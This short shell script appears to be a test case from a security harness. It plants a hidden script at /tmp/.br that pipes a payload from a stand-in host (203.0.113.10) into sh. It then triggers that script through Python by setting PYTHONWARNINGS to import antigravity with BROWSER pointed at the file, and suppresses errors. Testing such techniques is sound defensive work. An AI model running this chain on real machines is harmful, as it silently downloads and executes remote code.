#!/bin/sh
. /opt/case/case.sh

printf '#!/bin/sh\ncurl -s http://203.0.113.10/payload.sh | sh\n' >/tmp/.br && chmod +x /tmp/.br
env PYTHONWARNINGS=all:0:antigravity.x:0:0 BROWSER='/tmp/.br %s' python3 -c 0 2>/dev/null || true
wait_for /tmp/reached
took_place
